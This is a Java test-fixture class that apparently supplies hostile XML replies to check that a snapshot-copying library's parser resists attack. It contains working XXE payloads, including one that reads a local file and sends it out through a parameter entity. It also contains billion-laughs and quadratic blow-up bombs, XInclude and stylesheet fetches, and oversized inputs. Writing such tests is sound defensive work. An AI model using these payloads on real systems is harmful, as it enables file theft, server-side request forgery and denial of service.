// Copyright the Snapcopy authors
// SPDX-License-Identifier: Apache-2.0
package io.github.snapcopy.core;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;

/** Replies that no service of AWS sends; the address is one that must not be asked. */
final class HostileReplies {
    private static final String BODY = "<CopySnapshotResponse><snapshotId>&x;</snapshotId></CopySnapshotResponse>";

    private HostileReplies() {}

    static Map<String, byte[]> at(String address, String file) {
        Map<String, byte[]> replies = new LinkedHashMap<>();
        put(replies, "external entity by HTTP", "<!DOCTYPE r [<!ENTITY x SYSTEM \"" + address + "x\">]>" + BODY);
        put(replies, "external entity by file", "<!DOCTYPE r [<!ENTITY x SYSTEM \"" + file + "\">]>" + BODY);
        put(replies, "public entity", "<!DOCTYPE r [<!ENTITY x PUBLIC \"-//X//EN\" \"" + address + "p\">]>" + BODY);
        put(replies, "external subset", "<!DOCTYPE r SYSTEM \"" + address + "r.dtd\">" + good());
        put(replies, "public subset", "<!DOCTYPE r PUBLIC \"-//X//EN\" \"" + address + "r.dtd\">" + good());
        put(replies, "parameter entity", "<!DOCTYPE r [<!ENTITY % p SYSTEM \"" + address + "p.dtd\"> %p;]>" + good());
        put(
                replies,
                "exfiltration",
                "<!DOCTYPE r [<!ENTITY % f SYSTEM \"" + file + "\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '" + address
                        + "?%f;'>\"> %e; %s;]>" + good());
        put(replies, "entity in an attribute", "<!DOCTYPE r [<!ENTITY x \"v\">]><CopySnapshotResponse a=\"&x;\"/>");
        put(replies, "billion laughs", laughs());
        put(
                replies,
                "quadratic blow-up",
                "<!DOCTYPE r [<!ENTITY x \"" + "a".repeat(50_000) + "\">]><CopySnapshotResponse><snapshotId>"
                        + "&x;".repeat(10_000) + "</snapshotId></CopySnapshotResponse>");
        put(replies, "entity that holds itself", "<!DOCTYPE r [<!ENTITY x \"&y;\"><!ENTITY y \"&x;\">]>" + BODY);
        put(replies, "internal subset alone", "<!DOCTYPE CopySnapshotResponse [<!ELEMENT x ANY>]>" + good());
        put(replies, "undeclared entity", BODY);
        put(
                replies,
                "schema location",
                "<CopyImageResponse xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\" i:schemaLocation=\"a "
                        + address + "s.xsd\"/>");
        put(
                replies,
                "inclusion",
                "<x:include xmlns:x=\"http://www.w3.org/2001/XInclude\" href=\"" + address + "i.xml\"/>");
        put(replies, "style sheet", "<?xml-stylesheet href=\"" + address + "s.xsl\"?><CopyImageResponse/>");
        put(replies, "deep nesting", "<a>".repeat(300_000));
        put(replies, "deep and closed", "<a>".repeat(33) + "</a>".repeat(33));
        put(
                replies,
                "very many elements",
                "<CopySnapshotResponse>" + "<a/>".repeat(200_000) + "</CopySnapshotResponse>");
        put(
                replies,
                "very many attributes",
                "<CopySnapshotResponse " + attributes(60_000) + "></CopySnapshotResponse>");
        put(replies, "a very long name", "<" + "a".repeat(900_000) + "/>");
        put(
                replies,
                "oversized text",
                "<CopySnapshotResponse><snapshotId>" + "a".repeat(3 << 20) + "</snapshotId></CopySnapshotResponse>");
        put(replies, "oversized comment never ended", "<!--" + "-a".repeat(1 << 20));
        put(replies, "null characters", "\0".repeat(1000) + good());
        replies.put(
                "an encoding nobody knows",
                ("<?xml version=\"1.0\" encoding=\"x-canary\"?>" + good()).getBytes(StandardCharsets.US_ASCII));
        replies.put(
                "entity in UTF-16",
                ("<!DOCTYPE r [<!ENTITY x SYSTEM \"" + address + "16\">]>" + BODY).getBytes(Charset.forName("UTF-16")));
        return replies;
    }

    private static void put(Map<String, byte[]> replies, String name, String text) {
        replies.put(name, text.getBytes(StandardCharsets.UTF_8));
    }

    private static String good() {
        return "<CopySnapshotResponse><snapshotId>snap-1</snapshotId></CopySnapshotResponse>";
    }

    private static String laughs() {
        StringBuilder out = new StringBuilder("<!DOCTYPE r [<!ENTITY l0 \"lol\">");
        for (int i = 1; i < 12; i++) {
            out.append("<!ENTITY l").append(i).append(" \"");
            out.append(("&l" + (i - 1) + ";").repeat(10)).append("\">");
        }
        return out.append("]><CopySnapshotResponse><snapshotId>&l11;</snapshotId></CopySnapshotResponse>")
                .toString();
    }

    private static String attributes(int count) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < count; i++) {
            out.append('a').append(i).append("=\"\" ");
        }
        return out.toString();
    }
}
